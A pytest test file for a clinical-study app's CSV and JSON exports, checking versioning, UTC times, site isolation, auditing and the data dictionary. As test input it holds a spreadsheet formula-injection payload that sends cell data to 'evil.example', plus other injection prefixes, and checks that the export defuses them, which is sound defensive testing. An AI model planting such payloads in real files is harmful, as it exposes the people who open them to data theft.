"""Exports on a real database: read back and compared with what was stored, versions and voids kept,
instants in UTC, formula injection defused, one site only, every export audited, the dictionary complete."""

from __future__ import annotations

import csv
import io
import json
from datetime import UTC, date, datetime, timedelta
from decimal import Decimal

import pytest
from sqlalchemy import func, select

from companion.db import now_utc
from companion.domain import phq
from companion.models import AuditEvent, DiaryEntry, SteroidDose
from companion.models.messaging import Reminder
from companion.models.workspace import Assessment
from companion.services import alerts, audit, checkins, diary, exports, steroids, visits
from tests import factories

DAY1 = date(2026, 3, 2)
TODAY = DAY1 + timedelta(days=20)
NOTE = '=HYPERLINK("http://evil.example/?q="&A1,"click")'
CRITERIA = ("disease_activity", "no_new_activity", "pga", "prednisone", "immunosuppressants")


def read(chunks) -> list[dict[str, str]]:
    """A CSV export (a stream of chunks) read back whole."""
    data = b"".join(chunks)
    assert data.startswith(b"\xef\xbb\xbf"), "UTF-8 with a byte-order mark, for spreadsheet programs"
    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"))))


def instant(text: str) -> datetime:
    assert text.endswith("Z"), text
    return datetime.fromisoformat(text)


def utc(value: datetime | None) -> str:
    return value.astimezone(UTC).isoformat().replace("+00:00", "Z") if value else ""


def make_records(session, site, study_id: str, *, note: str = "stiff") -> dict:
    """A participant with diary versions and a void, steroid doses, a check-in, an alert, a visit that took
    place with its assessment and dose, and a failed SMS, all made through the services."""
    person = factories.participant(session, site, day1=DAY1, study_id=study_id)
    me = audit.Actor("participant", person.id, site.id)
    staff = factories.coordinator(session, site)
    coordinator = audit.Actor("staff", staff.user.id, site.id)

    def save_day(day, **fields):
        raw = diary.DiaryInput(local_date=day, **{"fatigue": 3, "joint_pain": 2, **fields})
        return diary.save_day(session, person, raw, actor=me, today=TODAY, now=now_utc(), late_days=3).record

    first = save_day(TODAY - timedelta(days=1), note=note)
    corrected = save_day(TODAY - timedelta(days=1), note=note, fatigue=6, reason="tapped the wrong score")
    other_day = save_day(TODAY, fatigue=1)
    voided = diary.void(session, person, other_day.record_id, "entered for the wrong day", actor=me, now=now_utc())
    tablets = steroids.add(session, person, steroids.DoseInput(TODAY, "prednisone", strength_mg="5", tablets="2"),
                           actor=me, today=TODAY, now=now_utc(), late_days=3).record
    methyl = steroids.add(session, person, steroids.DoseInput(TODAY, "methylprednisolone", dose_mg="4"),
                          actor=me, today=TODAY, now=now_utc(), late_days=3).record
    fixed = steroids.correct(session, person, tablets.record_id,
                             steroids.DoseInput(TODAY, "prednisone", strength_mg="5", tablets="1"), "one tablet",
                             actor=me, today=TODAY, now=now_utc(), late_days=3)
    answers = {item.key: 2 for item in phq.PHQ2_ITEMS}
    checkin = checkins.save(session, person, checkins.CheckInInput("phq2", answers, TODAY), actor=me, today=TODAY,
                            now=now_utc(), late_days=3).record
    alert = alerts.raise_alert(session, participant_id=person.id, tier="RED", rule="test_rule",
                               source_type="check_ins", source_id=checkin.id, now=now_utc(), details={"x": 1})
    session.commit()
    visit = person.visits[0]
    visits.record_actual(session, visit, DAY1.isoformat(), "infusion given", actor=coordinator, now=now_utc(),
                         today=TODAY)
    criteria = [{"number": n, "key": key, "met": n != 3, "detail": "..."} for n, key in enumerate(CRITERIA, 1)]
    assessment = Assessment(
        participant_id=person.id, visit_id=visit.id, local_date=DAY1, version=1, created_at=now_utc(),
        created_by_type="staff", created_by_id=staff.user.id, variant="SLEDAI-2K", descriptors=["rash"],
        sledai_total=2, haemolytic_anaemia=False, gi_activity=False, new_activity=False, pga=Decimal("1.50"),
        immunosuppressants={"hydroxychloroquine": "400"}, prednisone_mg=Decimal("10.00"),
        prednisone_from_diary=Decimal("10.00"), weight_kg=Decimal("60.0"), dose_mg=Decimal("600.0"),
        vials={"400": 1, "120": 2}, lldas_criteria=criteria, in_lldas=False)
    session.add(assessment)
    session.flush()
    assessment.record_id = assessment.id
    due = datetime.combine(DAY1 - timedelta(days=1), datetime.min.time(), tzinfo=UTC) + timedelta(hours=11)
    reminder = Reminder(participant_id=person.id, key=f"v:{visit.key}:d1", kind="visit_d1", visit_id=visit.id,
                        subject_date=DAY1, due_at=due, expires_at=due + timedelta(hours=12), status="failed",
                        error_code=30003, attempts=1, language="zh-CN", segments=1)
    session.add(reminder)
    session.commit()
    return {"person": person, "staff": staff, "diary": [first, corrected, other_day, voided], "visit": visit,
            "doses": [tablets, methyl, fixed], "checkin": checkin, "alert": alert, "assessment": assessment,
            "reminder": reminder}


@pytest.fixture
def data(db_session, site):
    return make_records(db_session, site, "EXP-001", note=NOTE)


@pytest.fixture
def stranger(db_session):
    """Another site with its own participant and records."""
    other = factories.site(db_session, code="OTHER")
    return make_records(db_session, other, "OTH-001")


@pytest.fixture
def actor(data, site):
    return audit.Actor("staff", data["staff"].user.id, site.id)


def export(db_session, site, actor, name) -> list[dict[str, str]]:
    return read(exports.export_csv(db_session, name, site_id=site.id, actor=actor, now=now_utc()))


def test_diary_reads_back_with_every_version_and_the_void(db_session, site, actor, data):
    rows = export(db_session, site, actor, "diary")
    stored = db_session.scalars(select(DiaryEntry).where(DiaryEntry.participant_id == data["person"].id)
                                .order_by(DiaryEntry.record_id, DiaryEntry.version)).all()
    assert [int(r["row_id"]) for r in rows] == [e.id for e in stored] and len(rows) == 4
    for row, entry in zip(rows, stored, strict=True):
        assert int(row["record_id"]) == entry.record_id and int(row["version"]) == entry.version
        assert row["supersedes_id"] == (str(entry.supersedes_id) if entry.supersedes_id else "")
        assert row["superseded_at"] == utc(entry.superseded_at)
        assert row["voided"] == ("true" if entry.voided else "false")
        assert int(row["fatigue"]) == entry.fatigue and row["local_date"] == entry.local_date.isoformat()
        assert instant(row["created_at"]) == entry.created_at and row["study_id"] == "EXP-001"
        assert row["reason"] == (entry.reason or "") and json.loads(row["symptoms"]) == entry.symptoms
    first, corrected, _other, voided = rows
    assert first["superseded_at"] and instant(first["superseded_at"]).utcoffset() == timedelta(0)
    assert (corrected["version"], corrected["supersedes_id"], corrected["superseded_at"]) == ("2", first["row_id"], "")
    assert corrected["reason"] == "tapped the wrong score" and corrected["fatigue"] == "6"
    assert voided["voided"] == "true" and voided["reason"] == "entered for the wrong day"
    assert first["created_by_type"] == "participant" and first["created_by"] == "EXP-001"


def test_formula_in_a_note_is_defused(db_session, site, actor, data):
    rows = export(db_session, site, actor, "diary")
    assert {r["note"] for r in rows if r["note"]} == {"'" + NOTE}
    audit_rows = export(db_session, site, actor, "audit_trail")
    assert all(not r["changes"].startswith("=") for r in audit_rows)
    for bad in ("=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx"):
        assert exports.csv_cell(bad, "text") == "'" + bad
    assert exports.csv_cell("plain = fine", "text") == "plain = fine"


def test_steroid_doses_every_version_with_prednisone_equivalent(db_session, site, actor, data):
    rows = export(db_session, site, actor, "steroid_doses")
    stored = db_session.scalars(select(SteroidDose).order_by(SteroidDose.record_id, SteroidDose.version)).all()
    assert [int(r["row_id"]) for r in rows] == [d.id for d in stored if d.participant_id == data["person"].id]
    by_id = {int(r["row_id"]): r for r in rows}
    tablets, methyl, fixed = data["doses"]
    assert by_id[tablets.id]["superseded_at"] and by_id[tablets.id]["dose_mg"] == "10.00"
    assert (by_id[tablets.id]["strength_mg"], by_id[tablets.id]["tablets"]) == ("5.00", "2.00")
    assert by_id[fixed.id]["version"] == "2" and by_id[fixed.id]["reason"] == "one tablet"
    assert Decimal(by_id[fixed.id]["prednisone_equivalent_mg"]) == Decimal("5")
    assert by_id[methyl.id]["drug"] == "methylprednisolone" and by_id[methyl.id]["strength_mg"] == ""
    assert Decimal(by_id[methyl.id]["prednisone_equivalent_mg"]) == Decimal("5")  # 4 mg x 1.25


def test_visits_carry_the_dose_given(db_session, site, actor, data):
    rows = export(db_session, site, actor, "visits")
    assert len(rows) == len(data["person"].visits)
    first = next(r for r in rows if int(r["visit_id"]) == data["visit"].id)
    assert first["actual_date"] == DAY1.isoformat() and first["infusion"] == "true"
    dose = (first["weight_kg"], first["dose_mg"], first["vials_400mg"], first["vials_120mg"])
    assert dose == ("60.0", "600.0", "1", "2")
    assert int(first["assessment_id"]) == data["assessment"].id
    assert all(r["dose_mg"] == "" for r in rows if r is not first)
    assert first["planned_time"].count(":") == 1 and first["target_date"] == DAY1.isoformat()


def test_assessments_have_each_lldas_criterion(db_session, site, actor, data):
    (row,) = export(db_session, site, actor, "assessments")
    assert [row[f"lldas_{n}_{key}"] for n, key in enumerate(CRITERIA, 1)] == ["true", "true", "false", "true", "true"]
    assert row["in_lldas"] == "false" and row["pga"] == "1.50" and row["sledai_total"] == "2"
    assert json.loads(row["immunosuppressants"]) == {"hydroxychloroquine": "400"}
    assert (row["vials_400mg"], row["vials_120mg"]) == ("1", "2")


def test_check_ins_alerts_and_messages(db_session, site, actor, data):
    (checkin,) = export(db_session, site, actor, "check_ins")
    assert checkin["kind"] == "phq2" and checkin["total"] == "4" and json.loads(checkin["answers"])["phq1"] == 2
    alert_rows = export(db_session, site, actor, "alerts")
    mine = next(r for r in alert_rows if r["rule"] == "test_rule")
    assert mine["tier"] == "RED" and instant(mine["raised_at"]) == data["alert"].raised_at
    assert mine["acknowledged_at"] == "" and json.loads(mine["details"]) == {"x": 1}
    messages = export(db_session, site, actor, "messages")
    assert not {"body", "text", "message"} & set(messages[0])
    failed = next(r for r in messages if int(r["reminder_id"]) == data["reminder"].id)
    assert (failed["status"], failed["error_code"], failed["attempts"]) == ("failed", "30003", "1")
    assert instant(failed["due_at"]) == data["reminder"].due_at
    count = db_session.scalar(select(func.count(Reminder.id)).where(Reminder.participant_id == data["person"].id))
    assert len(messages) == count


def test_audit_trail_holds_the_site_and_its_participants(db_session, site, actor, data, stranger):
    rows = export(db_session, site, actor, "audit_trail")
    actions = {r["action"] for r in rows}
    assert {"participant.enrol", "diary_entries.correct", "diary_entries.void", "visit.record_actual",
            "staff.create"} <= actions
    move = next(r for r in rows if r["action"] == "visit.record_actual")
    assert move["actor"] == data["staff"].email and move["reason"] == "infusion given"
    assert json.loads(move["changes"]) == {"actual_date": [None, DAY1.isoformat()]}
    event = db_session.get(AuditEvent, int(move["event_id"]))
    assert instant(move["at"]) == event.at
    assert all(r["study_id"] in ("", "EXP-001") for r in rows)


@pytest.mark.parametrize("name", list(exports.DOMAINS))
def test_another_site_gets_nothing_of_this_one(db_session, site, actor, data, stranger, name):
    rows = export(db_session, site, actor, name)
    assert rows, name
    text = json.dumps(rows)
    assert "OTH-001" not in text and stranger["staff"].email not in text
    if "participant_id" in rows[0]:
        assert {r["participant_id"] for r in rows} <= {"", str(data["person"].id)}
    theirs = exports.participant_record(db_session, stranger["person"].id, site_id=site.id, actor=actor,
                                        now=now_utc(), fmt="json")
    assert theirs is None


@pytest.mark.parametrize("name", list(exports.DOMAINS))
def test_every_export_is_audited_once_with_who(db_session, site, actor, data, name):
    before = db_session.scalar(select(func.count(AuditEvent.id)).where(AuditEvent.action == f"export.{name}"))
    rows = export(db_session, site, actor, name)
    events = db_session.scalars(select(AuditEvent).where(AuditEvent.action == f"export.{name}")).all()
    assert len(events) == before + 1
    event = events[-1]
    assert (event.actor_type, event.actor_id, event.site_id) == ("staff", actor.id, site.id)
    assert event.changes == {"format": "csv", "rows": len(rows)}


def test_dictionary_describes_every_exported_column_and_nothing_else(db_session, site, actor, data):
    described = {(row["export"], row["column"]) for row in exports.dictionary()}
    exported = set()
    for name in exports.DOMAINS:
        data_ = b"".join(exports.export_csv(db_session, name, site_id=site.id, actor=actor, now=now_utc()))
        header = next(csv.reader(io.StringIO(data_.decode("utf-8-sig"))))
        assert len(header) == len(set(header)), name
        exported |= {(name, column) for column in header}
    assert exported == described
    entries = read(exports.dictionary_csv())
    assert {(r["export"], r["column"]) for r in entries} == described
    for entry in entries:
        assert entry["type"] in exports.TYPES and entry["meaning"] and entry["format"] == exports.TYPES[entry["type"]]


def test_participant_record_holds_everything_and_is_audited(db_session, site, actor, data, stranger):
    person = data["person"]
    record = exports.participant_record(db_session, person.id, site_id=site.id, actor=actor, now=now_utc(),
                                        fmt="json")
    parsed = json.loads(json.dumps(record))
    assert parsed["study_id"] == "EXP-001" and parsed["site_code"] == site.code
    sections = parsed["sections"]
    assert list(sections) == list(exports.DOMAINS)
    assert len(sections["diary"]) == 4 and sections["diary"][-1]["voided"] is True
    assert sections["diary"][0]["note"] == NOTE  # JSON is not a spreadsheet: kept as entered
    assert sections["participants"][0]["phone_e164"] == person.phone_e164
    assert sections["assessments"][0]["lldas_3_pga"] is False
    assert {e["action"] for e in sections["audit_trail"]} >= {"participant.enrol", "diary_entries.void"}
    assert all(e["participant_id"] == person.id for e in sections["audit_trail"])
    assert "OTH-001" not in json.dumps(parsed)
    event = db_session.scalars(select(AuditEvent).where(AuditEvent.action == "export.participant_record")).one()
    assert (event.actor_id, event.participant_id, event.changes) == (actor.id, person.id, {"format": "json"})


def test_audit_page_filters_by_local_days(db_session, site, actor, data):
    at = datetime(2026, 3, 1, 16, 30, tzinfo=UTC)  # 00:30 on 2 March in Shanghai
    audit.record(db_session, actor, "test.inside", at=at)
    audit.record(db_session, actor, "test.before", at=at - timedelta(hours=1))  # 23:30 on 1 March
    db_session.commit()
    start, end = exports.local_days_to_utc("Asia/Shanghai", date(2026, 3, 2), date(2026, 3, 2))
    assert (start, end) == (datetime(2026, 3, 1, 16, tzinfo=UTC), datetime(2026, 3, 2, 16, tzinfo=UTC))
    rows, has_next, _ctx = exports.audit_page(db_session, site.id, exports.AuditFilter(action="test", start=start,
                                                                                        end=end))
    assert [r.action for r in rows] == ["test.inside"] and not has_next
